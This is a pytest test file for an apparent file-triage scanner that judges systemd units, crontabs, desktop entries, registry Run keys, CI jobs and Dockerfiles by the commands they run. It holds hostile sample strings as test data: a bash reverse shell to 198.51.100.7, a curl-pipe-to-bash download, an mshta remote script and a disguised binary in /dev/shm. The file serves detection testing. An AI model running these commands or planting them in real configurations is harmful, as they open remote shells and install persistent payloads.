"""Settings that have a command run are judged by that command, and by where it lies."""

import pytest

from vedette.core.verdicts import Verdict
from vedette.triage.allowance import Allowance
from vedette.triage.examination import Examination
from vedette.triage.examine import Extras, examine

SHELL = "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"
RUN = r"HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run"
FETCH = "curl -fsSL http://198.51.100.7/x.sh | bash"


def seen(name: str, text: str) -> Examination:
    return examine(name, text.encode(), Extras(), Allowance())


@pytest.mark.parametrize(
    ("name", "text", "least"),
    [
        ("a.service", f"[Service]\nExecStart=/bin/bash -c '{SHELL}'\n", Verdict.MALICIOUS),
        ("crontab", f"*/5 * * * * root {FETCH}\n", Verdict.SUSPICIOUS),
        ("a.desktop", f'[Desktop Entry]\nType=Application\nExec=sh -c "{FETCH}"\n', Verdict.SUSPICIOUS),
        ("a.service", "[Service]\nExecStart=/dev/shm/.x/kworker\n", Verdict.SUSPICIOUS),
        (
            "a.reg",
            f'Windows Registry Editor Version 5.00\n\n[{RUN}]\n"a"="mshta http://198.51.100.7/a.hta"\n',
            Verdict.SUSPICIOUS,
        ),
        ("ci.yml", f"jobs:\n  a:\n    steps:\n      - run: {SHELL}\n", Verdict.SUSPICIOUS),
    ],
)
def test_what_settings_have_run_counts(name: str, text: str, least: Verdict) -> None:
    order = list(Verdict)
    assert order.index(seen(name, text).judgement.verdict) >= order.index(least)


def test_a_build_that_runs_a_download_is_unusual_and_no_more() -> None:
    assert seen("Dockerfile", f"FROM debian\nRUN {FETCH}\n").judgement.verdict is Verdict.UNUSUAL


def test_ordinary_ones_are_benign_and_their_command_is_told() -> None:
    text = "[Service]\nExecStart=/usr/sbin/sshd -D\n[Install]\nWantedBy=multi-user.target\n"
    found = seen("sshd.service", text)
    assert found.judgement.verdict is Verdict.BENIGN
    assert found.judgement.summary == "Has a command run by itself: /usr/sbin/sshd -D (runs at each boot)."
    (told,) = [one for one in found.findings if one.rule == "behaviour/runs-by-itself"]
    assert "runs at each boot" in told.message
    assert told.evidence[0].quote == "/usr/sbin/sshd -D"


def test_what_a_registry_file_sets_is_said_to_be_written_as_commands() -> None:
    text = f'Windows Registry Editor Version 5.00\n\n[{RUN}]\n"a"="C:\\\\x.exe"\n'
    found = seen("a.reg", text)
    assert found.judgement.verdict is Verdict.UNUSUAL
    assert found.notes == (
        "a.reg!/settings.cmd: what the file sets, written here as the commands that would set it",
    )
